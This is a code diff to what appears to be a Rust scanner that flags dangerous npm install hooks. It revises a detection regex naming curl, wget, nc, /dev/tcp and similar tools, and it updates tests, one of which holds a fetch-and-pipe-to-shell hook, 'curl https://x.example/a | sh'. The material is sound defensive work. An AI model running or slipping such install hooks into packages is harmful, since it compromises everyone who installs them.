@@ -16,11 +16,10 @@ static NPM_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
     .expect("a test compiles it")
 });
 
-/// Commands that fetch, decode or evaluate.
+/// Commands that fetch or decode.
 static REACHES_OUT: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
-        r"(?xi)\b(?:curl|wget|iwr|irm|invoke-webrequest|certutil|bitsadmin|nc|ncat)\b | https?:// | \b(?:node|python3?|ruby|perl|php)\s+-(?:e|c|r|p)\b
-        | \bpowershell\b | \bbase64\b | \beval\b | \b(?:ba|z)?sh\s+-c\b | /dev/tcp/",
+        r"(?xi)\b(?:curl|wget|iwr|irm|invoke-webrequest|certutil|bitsadmin|nc|ncat)\b | https?:// | \bbase64\b | /dev/tcp/ | \brequire\(\W*(?:http|https|net|dns|child_process)\b | \bfetch\(",
     )
     .expect("a test compiles it")
 });
@@ -77,7 +76,7 @@ fn npm(line: &str) -> Option<(Severity, String)> {
     let found = NPM_SCRIPT.captures(line)?;
     let (hook, command) = (&found[1], &found[2]);
     if !remote_scripts(command).is_empty() || REACHES_OUT.is_match(command) {
-        return Some((Severity::High, format!("`{hook}` fetches or evaluates something.")));
+        return Some((Severity::High, format!("`{hook}` fetches or decodes something.")));
     }
     // npm runs `prepare` for whoever works on the package, the others for everybody who installs it.
     if hook.contains("prepare") || ORDINARY.is_match(command) {
@@ -97,7 +96,8 @@ mod tests {
         let build = Kind::BuildScript(Ecosystem::Cargo);
         let cases = [
             (npm, r#"  "postinstall": "curl https://x.example/a | sh","#, Some(Severity::High)),
-            (npm, r#"  "preinstall": "node -e \"require('./x')\"","#, Some(Severity::High)),
+            (npm, r#"  "preinstall": "node -e \"require('./x')\"","#, Some(Severity::Medium)),
+            (npm, r#"  "preinstall": "node -e \"require('https').get('x')\"","#, Some(Severity::High)),
             (npm, r#"  "postinstall": "node scripts/setup.js","#, Some(Severity::Medium)),
             (npm, r#"  "postinstall": "patch-package","#, None),
             (npm, r#"  "prepare": "husky","#, None),
